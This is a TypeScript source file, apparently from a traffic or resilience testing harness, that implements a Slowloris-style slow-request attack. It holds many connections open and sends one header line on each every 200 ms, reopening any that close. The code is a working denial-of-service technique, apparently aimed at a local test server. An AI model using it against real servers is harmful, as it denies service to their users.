import { connect, type Socket } from "node:net";
import type { Address } from "../model/environment.ts";
import type { TrafficCounts } from "../model/foreign-traffic.ts";
import type { Traffic } from "./flood.ts";

/** One more line of a request that never ends, this often on each connection. */
const everyMs = 200;
/** After a connection was refused or closed. */
const againAfterMs = 100;

/**
 * Requests that never end, on so many connections: each says a line of its head now and then (R. Hansen, "Slowloris",
 * 2009). A connection that is closed is made again.
 */
export function startTrickle(address: Address, connections: number): Traffic {
  const counts = { ok: 0, refused: 0, broken: 0 };
  const open = new Set<Socket>();
  const timers = new Set<NodeJS.Timeout>();
  let isOver = false;
  const later = (ms: number, act: () => void): void => {
    const timer = setTimeout(() => {
      timers.delete(timer);
      if (!isOver) act();
    }, ms);
    timers.add(timer);
  };
  const begin = (): void => {
    const socket = connect(address);
    const sayMore = (): void => {
      if (socket.destroyed) return;
      socket.write(`X-More: ${counts.ok}\r\n`);
      counts.ok += 1;
      later(everyMs, sayMore);
    };
    socket.on("connect", () => {
      open.add(socket);
      socket.write("GET / HTTP/1.1\r\nHost: localhost\r\n");
      sayMore();
    });
    // Whatever it says, somebody who does this does not listen.
    socket.resume();
    socket.on("error", () => {
      counts.broken += 1;
    });
    socket.on("close", () => {
      if (open.delete(socket)) counts.refused += 1;
      if (!isOver) later(againAfterMs, begin);
    });
  };
  for (let index = 0; index < connections; index += 1) begin();
  return {
    counts: (): TrafficCounts => ({ ...counts, open: open.size }),
    stop() {
      isOver = true;
      for (const timer of timers) clearTimeout(timer);
      for (const socket of open) socket.destroy();
      return Promise.resolve();
    },
  };
}
